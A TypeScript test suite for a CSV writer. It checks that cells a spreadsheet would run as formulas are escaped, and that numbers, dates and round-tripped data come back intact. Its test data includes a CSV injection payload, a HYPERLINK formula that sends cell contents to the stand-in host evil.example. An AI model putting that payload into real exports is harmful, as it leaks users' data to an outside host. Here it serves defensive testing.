import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsv } from './csv-writer.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

/** Text a spreadsheet would run as a formula: written with a leading ' and quoted. */
const FORMULAS = [
  HYPERLINK,
  '=1+1',
  '+1+1',
  '-2+3',
  '-',
  '- 12',
  '-1e5',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1', // full-width =, which Apple Numbers reads as one
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(A1)',
];

/** Data that must come back exactly as it went in. */
const PLAIN = ['plain', 'Zoë, "the" café ☕', 'two\nlines', 'crlf\r\ninside', ' =leading space', "'=already neutral", 'a,b', '"quoted"', '', '12 = twelve'];

describe('the CSV writer', () => {
  it('neutralizes every cell a spreadsheet would read as a formula, and quotes it', () => {
    for (const cell of FORMULAS) {
      const csv = toCsv([{ cell }]);
      const raw = csv.slice('cell\r\n'.length, -2);
      expect(raw, JSON.stringify(cell)).toBe(`"'${cell.replaceAll('"', '""')}"`);
      expect(parse(csv, { columns: true })).toEqual([{ cell: `'${cell}` }]);
    }
    expect(toCsv([{ a: HYPERLINK }])).toBe(`a\r\n"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"\r\n`);
  });

  it('keeps numbers numbers: JS numbers, bigints and plain decimal strings, negative ones too', () => {
    const rows = [
      { text: 'credit', cost: '-12.50', units: -3, big: -9007199254740993n, tiny: '-0.0000000001', whole: '-42', float: -0.5 },
      { text: 'usage', cost: '49.9000000000', units: 7, big: 12345678901234567890n, tiny: '0', whole: '1000', float: 1.25 },
    ];
    const csv = toCsv(rows);
    expect(csv).toBe(
      'text,cost,units,big,tiny,whole,float\r\n' +
        'credit,-12.50,-3,-9007199254740993,-0.0000000001,-42,-0.5\r\n' +
        'usage,49.9000000000,7,12345678901234567890,0,1000,1.25\r\n',
    );
  });

  it('writes dates as ISO 8601, nothing for null and undefined, booleans as words', () => {
    const at = new Date('2026-10-01T12:34:56.789Z');
    expect(toCsv([{ at, none: null, missing: undefined, yes: true, no: false, day: '2026-10-01' }])).toBe(
      'at,none,missing,yes,no,day\r\n2026-10-01T12:34:56.789Z,,,true,false,2026-10-01\r\n',
    );
    expect(toCsv([{ at: new Date(Number.NaN) }])).toBe('at\r\n\r\n');
  });

  it('round-trips data through csv-parse unchanged, with columns in the order asked for', () => {
    const rows = PLAIN.map((text, i) => ({ i, text, 'a.b': `dot ${i}` }));
    const csv = toCsv(rows, ['text', 'i', 'a.b', 'absent']);
    expect(csv.startsWith('text,i,a.b,absent\r\n')).toBe(true);
    expect(parse(csv, { columns: true })).toEqual(rows.map((r) => ({ text: r.text, i: String(r.i), 'a.b': r['a.b'], absent: '' })));
  });

  it('writes only the header for no rows with columns, and nothing without', () => {
    expect(toCsv([], ['a', 'b'])).toBe('a,b\r\n');
    expect(toCsv([])).toBe('');
  });
});
